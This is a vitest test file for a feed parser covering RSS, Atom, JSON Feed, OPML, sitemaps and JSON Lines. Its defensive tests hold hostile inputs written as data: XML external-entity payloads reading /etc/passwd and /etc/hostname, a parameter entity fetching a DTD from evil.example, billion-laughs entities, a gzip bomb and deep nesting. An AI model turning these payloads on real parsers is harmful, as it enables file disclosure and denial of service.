import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { detectKind, rootElement } from '../src/engine/feeds/detect-kind.js';
import { parseFeedDate } from '../src/engine/feeds/parse-feed-date.js';
import { parseSource } from '../src/engine/feeds/parse-source.js';
import { decodeXmlText } from '../src/engine/feeds/read-sitemap.js';
import { FeedParseError, type FeedErrorCode, type ParsedSource } from '../src/engine/feeds/types.js';
import { describeShared, REPO_ROOT, SHARED_DIR } from './helpers/shared.js';

const FIXTURES = join(REPO_ROOT, 'test', 'fixtures', 'feeds');
const bytesOf = (name: string): Buffer => readFileSync(join(FIXTURES, name));
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

function parseFixture(name: string, url: string | null = `https://feeds.example/${name}`): ParsedSource {
  return parseSource(bytesOf(name), { url });
}

function errorOf(run: () => unknown): FeedParseError {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(FeedParseError);
    return error as FeedParseError;
  }
  throw new Error('expected a FeedParseError');
}

function expectError(run: () => unknown, code: FeedErrorCode, message: RegExp): FeedParseError {
  const error = errorOf(run);
  expect(error.code).toBe(code);
  expect(error.message).toMatch(message);
  return error;
}

const codes = (parsed: ParsedSource): string[] => parsed.warnings.map((w) => w.code).sort();

describe('parseSource: every source kind', () => {
  it('reads RSS 2.0: content:encoded, dc:creator, guid permalinks, RFC 822 dates with zones, relative links', () => {
    const feed = parseFixture('rss2.xml');
    expect(feed.kind).toBe('rss');
    expect(feed.title).toBe('The Harbor Ledger & Review');
    expect(feed.entries.map((e) => e.url)).toEqual([
      'https://harbor-ledger.example/2024/03/05/ferry-resumes?utm_source=rss&utm_medium=feed',
      'https://harbor-ledger.example/2024/03/04/parking-vote',
      'https://feeds.example/2024/03/03/library-hours',
    ]);
    expect(feed.entries.map((e) => e.published)).toEqual([
      '2024-03-05T09:30:00.000Z',
      '2024-03-04T23:05:00.000Z',
      '2024-03-03T13:00:00.000Z',
    ]);
    const [first, second] = feed.entries;
    expect(first?.author).toBe('Mira Olsen');
    expect(first?.guid).toBe('hl-1001');
    expect(first?.content?.format).toBe('html');
    expect(first?.content?.value).toContain('Harbor master Tomas Reyes');
    expect(first?.summary?.value).toContain('ran again on Tuesday');
    expect(second?.author).toBe('Ana Lind');
    expect(feed.warnings).toEqual([expect.objectContaining({ code: 'relative-link-resolved', examples: [3] })]);
  });

  it('reads RSS 1.0 (RDF) with Dublin Core dates and creators', () => {
    const feed = parseFixture('rdf.xml');
    expect(feed.kind).toBe('rdf');
    expect(feed.entries).toHaveLength(2);
    expect(feed.entries[0]).toMatchObject({
      url: 'https://valley-gazette.example/news/orchard-frost',
      published: '2024-04-10T04:00:00.000Z',
      author: 'Paul Weber',
    });
    expect(feed.entries[1]?.published).toBe('2024-04-09T00:00:00.000Z');
  });

  it('reads Atom: xml:base on the feed and on an entry, the alternate link, html titles as plain text', () => {
    const feed = parseFixture('atom.xml');
    expect(feed.kind).toBe('atom');
    expect(feed.title).toBe('Northwind Post');
    expect(feed.entries.map((e) => e.url)).toEqual([
      'https://northwind-post.example/news/2024/wind-farm.html',
      'https://northwind-post.example/sport/rowing-title',
    ]);
    expect(feed.entries[0]).toMatchObject({
      published: '2024-05-02T09:15:00.000Z',
      updated: '2024-05-02T11:00:00.000Z',
      author: 'Lea Brandt',
      content: { format: 'html', value: '<p>Regulators approved forty turbines on Thursday.</p>' },
    });
    // An entry with only <updated> is dated by it; the feed's author stands in for a missing one.
    expect(feed.entries[1]).toMatchObject({ published: '2024-05-01T20:00:00.000Z', author: 'Northwind Desk' });
    expect(codes(feed)).toEqual(['relative-link-resolved']);
  });

  it('reads JSON Feed: text and html content, relative URLs against the fetched address', () => {
    const feed = parseFixture('feed.json');
    expect(feed.kind).toBe('json-feed');
    expect(feed.entries.map((e) => [e.guid, e.url, e.content?.format])).toEqual([
      ['lc-77', 'https://lakeside-courier.example/a/school-budget', 'text'],
      ['lc-78', 'https://feeds.example/a/ice-fishing', 'html'],
    ]);
    expect(feed.entries[0]?.published).toBe('2024-02-15T01:00:00.000Z');
  });

  it('reads OPML: feeds with their folders, relative addresses resolved, duplicates and empty outlines skipped', () => {
    const list = parseFixture('subscriptions.opml', 'https://reader.example/lists/subscriptions.opml');
    expect(list.kind).toBe('opml');
    expect(list.entries).toEqual([]);
    expect(list.feeds.map((f) => [f.url, f.title, f.categories])).toEqual([
      ['https://harbor-ledger.example/feed.xml', 'Harbor Ledger', ['Local']],
      ['https://valley-gazette.example/rss', 'Valley Gazette', ['Local']],
      ['https://reader.example/lists/feeds/northwind.atom', 'Northwind Post', ['Wire', 'Regional']],
    ]);
    expect(list.feeds[0]?.siteUrl).toBe('https://harbor-ledger.example/');
    expect(codes(list)).toEqual(['outline-without-url', 'relative-link-resolved']);
  });

  it('reads a news sitemap (title, publication, date; entities in <loc> decoded) and a sitemap index', () => {
    const map = parseFixture('news-sitemap.xml');
    expect(map.kind).toBe('sitemap');
    expect(map.entries[0]).toMatchObject({
      url: 'https://pinecrest-times.example/2024/06/01/market-opens?ref=home&id=4',
      title: 'Farmers & makers market opens for the season',
      outlet: 'Pinecrest Times',
      published: '2024-06-01T07:00:00.000Z',
    });
    expect(map.entries[1]).toMatchObject({ title: null, published: '2024-05-31T00:00:00.000Z' });
    const index = parseFixture('sitemap-index.xml', 'https://pinecrest-times.example/sitemap.xml');
    expect(index.kind).toBe('sitemap-index');
    expect(index.feeds.map((f) => f.url)).toEqual([
      'https://pinecrest-times.example/sitemaps/news.xml',
      'https://pinecrest-times.example/sitemaps/archive-2024.xml.gz',
    ]);
  });

  it('reads a gzip-compressed sitemap', () => {
    const parsed = parseSource(gzipSync(bytesOf('news-sitemap.xml')), { url: 'https://pinecrest-times.example/s.gz' });
    expect(parsed.kind).toBe('sitemap');
    expect(parsed.entries).toHaveLength(2);
  });

  it('reads a plain URL list: comments and blank lines skipped, other lines warned about by number', () => {
    const list = parseSource(bytesOf('urls.txt'), { name: 'urls.txt' });
    expect(list.kind).toBe('url-list');
    expect(list.entries.map((e) => e.url)).toEqual([
      'https://harbor-ledger.example/2024/03/05/ferry-resumes',
      'https://valley-gazette.example/news/orchard-frost#comments',
    ]);
    expect(list.warnings).toEqual([expect.objectContaining({ code: 'bad-line', count: 2, examples: [5, 6] })]);
    expect(list.warnings[0]?.message).toMatch(/line 5: not an http\(s\) address/);
  });

  it('reads a JSON Lines stream: null fields are absent, unknown fields ignored, bad lines named', () => {
    const stream = parseSource(bytesOf('stream.jsonl'), { name: 'stream.jsonl' });
    expect(stream.kind).toBe('jsonl');
    expect(stream.entries.map((e) => e.guid)).toEqual(['s1', 's2', 's6']);
    expect(stream.entries[0]).toMatchObject({
      outlet: 'Harbor Ledger',
      published: '2024-03-05T09:30:00.000Z',
      content: { format: 'text', value: 'The ferry to Gull Island ran again on Tuesday.' },
    });
    expect(stream.entries[1]).toMatchObject({ url: null, content: { format: 'html' } });
    const bad = stream.warnings.find((w) => w.code === 'bad-line');
    expect(bad).toMatchObject({ count: 3, examples: [4, 5, 6] });
    expect(bad?.message).toMatch(/line 4: give "text" or "html", not both/);
    // An article stream without URLs is normal: no link warning for lines that carry their text.
    expect(codes(stream)).toEqual(['bad-line', 'item-without-date', 'unknown-date-format']);
  });
});

describe('parseSource: items without link or date, relative and unsafe links', () => {
  const feed = parseSource(bytesOf('gaps.xml'), { name: 'gaps.xml' });

  it('keeps items that carry the article without a link, drops those that carry nothing, and says so', () => {
    expect(feed.entries.map((e) => e.title)).toEqual(['No date', 'Odd date', 'Only content']);
    expect(feed.entries[2]).toMatchObject({ url: null, content: { format: 'html' } });
    expect(feed.warnings.find((w) => w.code === 'item-without-link')).toMatchObject({ count: 3, examples: [1, 4, 5] });
  });

  it('resolves relative links against xml:base without a fetched address, and refuses javascript: links', () => {
    expect(feed.entries[0]?.url).toBe('https://gaps.example/blog/posts/no-date');
    expect(feed.warnings.find((w) => w.code === 'unsafe-link-dropped')).toMatchObject({ examples: [4] });
  });

  it('warns about missing and unreadable dates without guessing', () => {
    expect(feed.entries[1]?.published).toBeNull();
    expect(feed.warnings.find((w) => w.code === 'item-without-date')).toMatchObject({ examples: [2] });
    expect(feed.warnings.find((w) => w.code === 'unknown-date-format')).toMatchObject({ examples: [3] });
  });
});

describe('parseSource: bad input is a clear error or warning for that source', () => {
  it('refuses malformed XML that cannot be read, naming the line', () => {
    expectError(() => parseFixture('malformed.xml'), 'malformed-xml', /malformed XML \(line 3, column \d+: .*title/);
  });

  it('reads a sloppy feed (a bare &) with a warning naming the problem', () => {
    const feed = parseFixture('sloppy.xml');
    expect(feed.entries.map((e) => e.title)).toEqual(['Bread & butter prices rise']);
    expect(feed.warnings).toEqual([expect.objectContaining({ code: 'malformed-xml-recovered' })]);
    expect(feed.warnings[0]?.message).toMatch(/line 3/);
  });

  it('says an HTML page is not a feed, and offers the feeds it links', () => {
    const error = expectError(
      () => parseSource(bytesOf('page-with-feed.html'), { url: 'https://harbor-ledger.example/' }),
      'html-not-feed',
      /this is an HTML page, not a feed; it links feeds: https:\/\/harbor-ledger\.example\/feed\.xml/,
    );
    // The WordPress JSON API link is not a feed and is not offered.
    expect(error.alternates.map((a) => [a.url, a.title])).toEqual([
      ['https://harbor-ledger.example/feed.xml', 'Harbor Ledger RSS'],
      ['https://harbor-ledger.example/atom.xml', null],
    ]);
  });

  it('says an HTML page without feed links is not a feed, whatever its Content-Type claims', () => {
    const html = utf8('<html><head><title>Oops</title></head><body><p>Sign in to continue</p></body></html>');
    const error = expectError(
      () => parseSource(html, { url: 'https://portal.example/', contentType: 'application/rss+xml' }),
      'html-not-feed',
      /^https:\/\/portal\.example\/: this is an HTML page, not a feed$/,
    );
    expect(error.alternates).toEqual([]);
  });

  it('does not expand entities: billion laughs stays as written, with a warning', () => {
    const bytes = bytesOf('billion-laughs.xml');
    const feed = parseSource(bytes, { name: 'laughs.xml' });
    expect(feed.entries[0]?.title).toBe('&lol9;');
    expect(feed.title).toBe('Laughs &lol9;');
    expect(JSON.stringify(feed).length).toBeLessThan(bytes.length * 2);
    expect(feed.warnings).toEqual([expect.objectContaining({ code: 'entity-declarations-ignored' })]);
  });

  it('does not expand entities in sitemaps either', () => {
    const doc = bytesOf('billion-laughs.xml')
      .toString('utf8')
      .replace(/<rss[\s\S]*<\/rss>/, '<urlset><url><loc>https://laughs.example/&lol9;</loc></url></urlset>')
      .replace('DOCTYPE rss', 'DOCTYPE urlset');
    const map = parseSource(utf8(doc), { name: 'laughs-sitemap.xml' });
    expect(map.entries[0]?.url).toBe('https://laughs.example/&lol9;');
  });

  it('refuses external and parameter entities (they would read files or addresses)', () => {
    expectError(() => parseFixture('external-entity.xml'), 'external-entity', /external entity \(secret\)/);
    const param = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>';
    expectError(() => parseSource(utf8(param)), 'external-entity', /parameter entity/);
    const opml =
      '<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/hostname">]><opml><body><outline text="&x;"/></body></opml>';
    expectError(() => parseSource(utf8(opml)), 'external-entity', /external entity/);
  });

  it('finds an external entity in any DOCTYPE, after DOCTYPEs never closed', () => {
    const later = `<?xml version="1.0"?><!DOCTYPE rss><!DOCTYPE rss [<!ENTITY s SYSTEM "file:///etc/passwd">]><rss/>`;
    expectError(() => parseSource(utf8(later)), 'external-entity', /external entity \(s\)/);
    // Thousands of subsets opened and never closed: read in one pass (each used to rescan the rest of the text).
    const unclosed = `<?xml version="1.0"?><rss version="2.0">${'<!DOCTYPE rss ['.repeat(16_000)}</rss>`;
    expectError(() => parseSource(utf8(unclosed), { name: 'unclosed.xml' }), 'malformed-xml', /^unclosed\.xml: /);
  });

  it("cuts a parser's reason to one short line, however much markup it quotes", () => {
    const attributes = `a.jpg"${'st.example/b.jpg"'.repeat(3000)}`;
    const item = `<item><title>Turbines</title><enclosure url="https://a.example/${attributes} length="1"/></item>`;
    const feed = parseSource(utf8(`<rss version="2.0"><channel><title>x</title>${item}</channel></rss>`));
    const warning = feed.warnings.find((w) => w.code === 'malformed-xml-recovered');
    expect(warning?.message).toMatch(/^the XML is malformed \(line 1, column \d+: Attribute '.*…\); read what/);
    expect(warning!.message.length).toBeLessThan(300);
  });

  it('refuses a source over the size limit, and a gzip bomb that expands over it', () => {
    const big = utf8(`<rss version="2.0"><channel><title>${'x'.repeat(2048)}</title></channel></rss>`);
    expectError(() => parseSource(big, { name: 'big.xml', limits: { maxBytes: 1024 } }), 'too-large', /over the size/);
    const bomb = gzipSync(Buffer.alloc(8 * 1024 * 1024, 0x20));
    expect(bomb.length).toBeLessThan(64 * 1024);
    expectError(
      () => parseSource(bomb, { name: 'bomb.gz', limits: { maxBytes: 1024 * 1024 } }),
      'too-large',
      /expands/,
    );
  });

  it('keeps the first entries of a huge feed and says how many were dropped', () => {
    const items = Array.from(
      { length: 30_000 },
      (_, i) => `<item><title>Item ${i}</title><link>https://huge.example/${i}</link></item>`,
    ).join('');
    const bytes = utf8(`<rss version="2.0"><channel><title>Huge</title>${items}</channel></rss>`);
    const feed = parseSource(bytes, { name: 'huge.xml', limits: { maxEntries: 1000 } });
    expect(feed.entries).toHaveLength(1000);
    expect(feed.entries.at(-1)?.url).toBe('https://huge.example/999');
    expect(feed.warnings.find((w) => w.code === 'entry-limit-reached')).toMatchObject({ count: 29_000 });
    // Every item is undated: one warning for all of them, not one each.
    expect(feed.warnings.filter((w) => w.code === 'item-without-date')).toHaveLength(1);
  });

  it('turns deep nesting into an error for that source, not a crash', () => {
    const deep = `<rss version="2.0"><channel><title>Deep</title><item>${'<x>'.repeat(50_000)}</item></channel></rss>`;
    const error = errorOf(() => parseSource(utf8(deep), { name: 'deep.xml' }));
    expect(error.code).toBe('malformed-xml');
  });

  it('names empty, binary and unknown inputs', () => {
    expectError(() => parseSource(new Uint8Array(), { name: 'empty' }), 'empty', /empty/);
    expectError(() => parseSource(new Uint8Array([0, 1, 2, 3, 0, 0, 9, 0]), { name: 'bin' }), 'binary', /binary/);
    expectError(() => parseSource(utf8('just some words'), { name: 'words.txt' }), 'unknown-format', /not a feed/);
    expectError(() => parseSource(utf8('<svg><g/></svg>'), { name: 'image.svg' }), 'unknown-format', /not a feed/);
    expectError(
      () => parseSource(utf8('{"version":"https://jsonfeed.org/version/1.1","items":7}')),
      'malformed-json',
      /JSON Feed/,
    );
  });
});

describe('detecting the kind of a source', () => {
  it('finds the root element past the prolog, comments and a DOCTYPE with an internal subset', () => {
    expect(rootElement('<?xml version="1.0"?>\n<!-- hi --><!DOCTYPE x [<!ENTITY a "b">]>\n<rss version="2.0">')).toBe(
      'rss',
    );
    expect(rootElement('<rdf:RDF xmlns:rdf="x">')).toBe('rdf:rdf');
    expect(rootElement('plain')).toBeNull();
  });

  it('uses the bytes first and the Content-Type as a hint', () => {
    expect(detectKind('<feed xmlns="http://www.w3.org/2005/Atom">', 'text/html')).toBe('atom');
    expect(detectKind('<!DOCTYPE html><html>', 'application/rss+xml')).toBe('html');
    expect(detectKind('<div>fragment</div>', 'text/html')).toBe('html');
    expect(detectKind('{"id":"a","text":"b"}\n{"id":"c","text":"d"}', '')).toBe('jsonl');
    expect(detectKind('{"id":"a","text":"b"}', 'application/x-ndjson')).toBe('jsonl');
    expect(detectKind('{"version":"https://jsonfeed.org/version/1","items":[]}', 'application/json')).toBe('json-feed');
    expect(detectKind('[1,2]', 'application/json')).toBeNull();
    expect(detectKind('{\n  "articles": [{"text": "a"}]\n}', 'application/json')).toBeNull();
    expect(detectKind('https://a.example/1\nhttps://a.example/2', 'text/plain')).toBe('url-list');
  });
});

describe('feed dates', () => {
  it('reads RFC 822 and ISO 8601 dates to UTC', () => {
    expect(parseFeedDate('Tue, 05 Mar 2024 09:30:00 GMT').value).toBe('2024-03-05T09:30:00.000Z');
    expect(parseFeedDate('5 Mar 24 09:30 +0100').value).toBe('2024-03-05T08:30:00.000Z');
    expect(parseFeedDate('Tuesday, 05 March 2024 09:30:00 PDT').value).toBe('2024-03-05T16:30:00.000Z');
    expect(parseFeedDate('2024-03-05T09:30:00.123+02:00').value).toBe('2024-03-05T07:30:00.000Z');
    expect(parseFeedDate('2024-03-05 09:30').value).toBe('2024-03-05T09:30:00.000Z');
    expect(parseFeedDate('2024-03-05').value).toBe('2024-03-05T00:00:00.000Z');
  });

  it('marks unreadable and impossible dates as unknown, and absent ones as absent', () => {
    for (const bad of ['yesterday', '31 Feb 2024 10:00:00 GMT', '2024-13-01', 'Tue, 05 Mar 2024 09:30:00 XYZ', '12']) {
      expect(parseFeedDate(bad), bad).toEqual({ value: null, unknown: true });
    }
    expect(parseFeedDate(undefined)).toEqual({ value: null, unknown: false });
    expect(parseFeedDate('  ')).toEqual({ value: null, unknown: false });
  });
});

describe('XML text decoding in sitemaps', () => {
  it('decodes the five XML entities and character references, and leaves other names alone', () => {
    expect(decodeXmlText('a &amp; b &lt;c&gt; &quot;d&quot; &apos;e&apos; &#233; &#x41; &nbsp; &#0;')).toBe(
      'a & b <c> "d" \'e\' é A &nbsp; &#0;',
    );
  });
});

describeShared('JSON Lines streams from the evaluation data', () => {
  const path = (name: string): string => join(SHARED_DIR, 'eval', 'clustering', name);
  const lines = (name: string): number =>
    readFileSync(path(name), 'utf8')
      .split('\n')
      .filter((l) => l.trim()).length;

  it('reads the dated AllSides stream: every line an entry with its address, outlet and date, no warnings', () => {
    const name = 'allsides-stream-2021-apr-jul.jsonl';
    const stream = parseSource(readFileSync(path(name)), { name });
    expect(stream.kind).toBe('jsonl');
    expect(stream.entries).toHaveLength(lines(name));
    expect(stream.warnings).toEqual([]);
    expect(stream.entries.every((e) => e.url && e.published && e.outlet && e.content?.format === 'text')).toBe(true);
    const times = stream.entries.map((e) => Date.parse(e.published!));
    expect(times.every((t, i) => i === 0 || t >= times[i - 1]!)).toBe(true);
  });

  it('reads the undated NeuS events: lines with a text kept and counted as undated, empty ones named', () => {
    const name = 'neus-events-train-val.jsonl';
    const rows = readFileSync(path(name), 'utf8')
      .split('\n')
      .filter((l) => l.trim())
      .map((l) => JSON.parse(l) as { text: string });
    const withText = rows.filter((r) => r.text.trim() !== '').length;
    const stream = parseSource(readFileSync(path(name)), { name, limits: { maxEntries: 100_000 } });
    expect(stream.entries).toHaveLength(withText);
    expect(stream.warnings).toEqual([
      expect.objectContaining({ code: 'item-without-date', count: withText }),
      expect.objectContaining({ code: 'bad-line', count: rows.length - withText }),
    ]);
    expect(stream.warnings[1]?.message).toMatch(/needs a "url" or the article/);
  });
});
